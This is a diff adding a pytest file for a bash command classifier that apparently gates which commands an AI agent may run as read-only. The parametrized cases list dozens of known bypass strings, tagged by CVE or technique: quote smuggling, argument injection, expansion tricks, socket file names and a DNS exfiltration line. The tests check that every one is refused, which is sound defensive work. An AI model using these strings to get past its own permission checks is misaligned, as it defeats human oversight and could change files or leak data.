@@ -1,0 +1,128 @@
+"""Each way in which a classifier of this kind is known to have been bypassed, and misread forms."""
+
+from __future__ import annotations
+
+import pytest
+
+from sandboxed_tools.bash import classify, split_commands
+
+
+@pytest.mark.parametrize(
+    ("source", "command"),
+    [
+        ("CVE-2025-54795", 'echo "a\\"; touch x; echo \\"b"; touch x'),
+        ("CVE-2025-55284", "ping -c1 $(cat a.txt).example.test"),
+        ("CVE-2025-55284", "dig @127.0.0.1 example.test"),
+        ("CVE-2025-59828", "yarn --version"),
+        ("CVE-2025-58764", "rg foo --pre=./x.sh"),
+        ("CVE-2025-66032", "man --html=touch ls"),
+        ("CVE-2025-66032", "sort --compress-program=./x.sh a.txt"),
+        ("CVE-2025-66032", "history -s x; history -a ~/.bashrc"),
+        ("CVE-2025-66032", "git ls-remote --upload-pa=touch ."),
+        ("CVE-2025-66032", "sed s/x/touch/e a.txt"),
+        ("CVE-2025-66032", "echo x | xargs -t touch echo"),
+        ("CVE-2025-66032", "rg foo$IFS--pre=sh"),
+        ("CVE-2025-66032", 'echo ${one="$"}${two="$one(touch x)"}${two@P}'),
+        ("CVE-2025-64755", "sed -n '1,1w/tmp/x' a.txt"),
+        ("CVE-2026-24887", "find . -'exec' touch x \\;"),
+        ("CVE-2026-24053", "ls >| x"),
+        ("CVE-2026-25722", "cd src && echo x > a"),
+        ("CVE-2026-25723", "echo x | sed 'w x'"),
+        ("limits that fail open", "; ".join(["ls"] * 60) + "; touch x"),
+        ("argument injection", "go test -exec ./x.sh"),
+        ("argument injection", "git show --output=x"),
+        ("argument injection", "fd -x touch"),
+        ("word values", "find . \\-delete"),
+        ("word values", 'find . "-dele\\\nte"'),
+        ("word values", "find . -del\\\nete"),
+        ("word values", "find . -{print,delete}"),
+        ("file names", "find -d*"),
+        ("file names", "rg foo *"),
+        ("file names", "sort *"),
+        ("base names", "./evilbin/ls"),
+        ("second operand", "uniq in out"),
+        ("truncation that looks like a comparison", "[ a > b ]"),
+        ("here-document body", "cat <<E\n`touch x`\nE"),
+        ("assignment in an expansion", "echo ${x:=`touch x`}"),
+        ("nested backquotes", "echo `echo \\`touch x\\``"),
+        ("continued command name", "to\\\nuch x"),
+        ("command name from braces", "{touch,x}"),
+        ("carriage return", "ls\r-la; touch x"),
+        ("time before a group", "time { touch x; }"),
+        ("coprocess", "coproc X { touch x; }"),
+        ("continued assignment", "a=b\\\nc touch x"),
+        ("arithmetic that evaluates a value", "x='a[$(touch x)]'; echo $((x))"),
+        ("conditional that evaluates a value", "[[ 'a[$(touch x)]' -eq 1 ]]"),
+        ("conditional that evaluates a subscript", "[[ -v a[$(touch x)] ]]"),
+        ("test that evaluates a subscript", "test -v 'a[$(touch x)]'"),
+        ("printf that sets a variable", "printf '%s%n' abcd PATH; cat a.txt"),
+        ("jobs that runs a program", "jobs -x touch x"),
+        ("wait that evaluates a subscript", "wait -p 'a[$(touch x)]' -n"),
+        ("getconf that runs a program", "getconf -v ../../x PATH"),
+        ("clustered option with a value", "xxd -pl 3 a.txt x"),
+        ("clustered option with a value", "tree -Lo 1 x"),
+        ("file name that names a host", "tar tf host:x.tar"),
+        ("file name that opens a socket", "gawk 1 /inet/tcp/0/127.0.0.1/9"),
+        ("file name that opens a socket", "cat < /dev/tcp/127.0.0.1/9"),
+        ("file that holds options", "nm @opts"),
+        ("clock", "date 010100002020"),
+        ("setting without an option", "sysctl kernel.x=1"),
+        ("division or regular expression", 'awk \'{(x)/ " / ;system("touch x");y=/ " /}\' a'),
+        ("delimiter inside brackets", "sed 's/[/]/x/w x' a.txt"),
+        ("both of -I and -n", "echo -o | xargs -I{} -n1 sort a.txt"),
+        ("program chosen by the workspace", "cargo --version"),
+        ("program chosen by the workspace", "python3 -m json.tool a.json"),
+        ("program chosen by the workspace", "make -n"),
+    ],
+)
+def test_a_known_way_around_a_classifier_is_refused(source: str, command: str) -> None:
+    assert not classify(command, trusted_workspace=True).read_only, source
+
+
+@pytest.mark.parametrize(
+    ("command", "argv"),
+    [
+        ("l\\s", ("ls",)),
+        ("cat \"a b\" 'c'd", ("cat", "a b", "cd")),
+        ('echo "a\\"b\\c"', ("echo", 'a"b\\c')),
+        ("echo $'a\\tb'", ("echo", "a\tb")),
+        ("echo {a,b}{1..2}", ("echo", "a1", "a2", "b1", "b2")),
+        ("echo {a,{b,c}}d x{,y}", ("echo", "ad", "bd", "cd", "x", "xy")),
+        ("echo {} {a} '{a,b}' {\"a,b\",c}", ("echo", "{}", "{a}", "{a,b}", "a,b", "c")),
+        ("echo {03..5} {c..a} {5..1..2}", ("echo", "03", "04", "05", "c", "b", "a", "5", "3", "1")),
+        ("echo a#b #c", ("echo", "a#b")),
+        ("ls \\\n -la", ("ls", "-la")),
+        ('echo $x "$x" a*', ("echo", None, None, None)),
+        ("echo ''", ("echo", "")),
+        ("echo a[ ] [b", ("echo", "a[", "]", "[b")),
+        ("echo \\~ '~' a~", ("echo", "~", "~", "a~")),
+        ("echo ~ ~/x", ("echo", None, None)),
+        ("X=1 cat <a.txt 2>/dev/null b", ("cat", "b")),
+    ],
+)
+def test_words_are_what_bash_makes_of_them(command: str, argv: tuple[str | None, ...]) -> None:
+    (only,) = split_commands(command) or ()
+    assert only.argv == argv
+
+
+def test_every_command_is_found_inside_substitutions_and_compound_commands() -> None:
+    text = 'if a; then b | c "$(d)"; else for x in `e`; do f <(g); done; fi'
+    text += '; case "$(h)" in i) j;; esac'
+    found = split_commands(text) or ()
+    assert sorted(str(command.argv[0]) for command in found) == list("abcdefghj")
+    assert all(text[c.start : c.end].startswith(str(c.argv[0])) for c in found)
+
+
+def test_a_verdict_names_each_part_and_points_at_what_is_wrong() -> None:
+    text = "ls -la && sort -o x a.txt | head > y"
+    verdict = classify(text)
+    assert [text[p.start : p.end] for p in verdict.parts] == [
+        "ls -la",
+        "sort -o x a.txt",
+        "head > y",
+    ]
+    assert [p.read_only for p in verdict.parts] == [True, False, False]
+    assert [(r.code, text[r.start : r.end]) for r in verdict.reasons] == [
+        ("option", "-o"),
+        ("redirect", "> y"),
+    ]
